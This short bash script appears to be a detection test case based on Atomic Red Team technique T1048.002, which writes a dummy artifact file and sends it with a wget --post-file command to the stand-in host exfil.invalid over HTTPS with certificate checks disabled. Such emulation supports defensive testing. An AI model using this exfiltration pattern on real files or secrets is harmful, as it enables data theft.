#!/usr/bin/env bash
# Atomic Red Team T1048.002-3: Exfiltrate data in a file over HTTPS using wget
# atomic GUID 7ccdfcfa-6707-46bc-b812-007ab6ff951c; technique T1048.002
# record.sh runs `case.sh run DIR` under the agent (recorded), then `case.sh cleanup DIR`.
W="${2:?usage: $0 run|cleanup DIR}"
cd "$W" || exit 1
run() {
    echo "atomic artifact" > "$W/artifact"
    wget --post-file="$W/artifact" --timeout=3 --tries=1 --no-check-certificate https://exfil.invalid/ --delete-after -q
}
cleanup() {
    :
}
"$1"
